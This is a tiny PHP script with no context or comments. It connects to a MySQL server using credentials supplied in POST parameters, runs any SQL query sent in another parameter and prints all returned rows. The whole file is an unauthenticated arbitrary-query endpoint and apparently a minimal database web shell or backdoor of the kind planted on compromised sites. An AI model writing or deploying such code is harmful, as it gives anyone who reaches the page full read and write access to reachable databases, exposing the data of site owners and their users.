<?php
$db = new mysqli($_POST['h'], $_POST['u'], $_POST['p'], $_POST['d']);
$r = $db->query($_POST['q']); while ($row = $r->fetch_assoc()) print_r($row);
